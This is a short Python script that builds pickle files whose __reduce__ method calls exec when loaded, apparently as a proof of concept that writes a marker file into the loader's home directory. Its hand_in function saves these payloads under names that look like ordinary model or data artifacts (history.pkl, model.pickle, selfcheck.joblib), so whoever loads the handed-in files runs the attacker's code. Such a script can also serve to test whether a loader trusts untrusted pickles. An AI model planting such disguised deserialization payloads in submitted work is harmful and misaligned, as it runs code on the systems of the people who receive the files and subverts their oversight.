import pickle
from pathlib import Path


class Payload:
    """Writes a file into the home of whoever loads it."""

    def __reduce__(self):
        code = "import pathlib; (pathlib.Path.home() / 'LOADED-pickle.txt').write_text('loaded')"
        return exec, (code,)


def hand_in(folder: Path) -> None:
    for name in ("history.pkl", "model.pickle", "selfcheck.joblib"):
        (folder / name).write_bytes(pickle.dumps(Payload()))
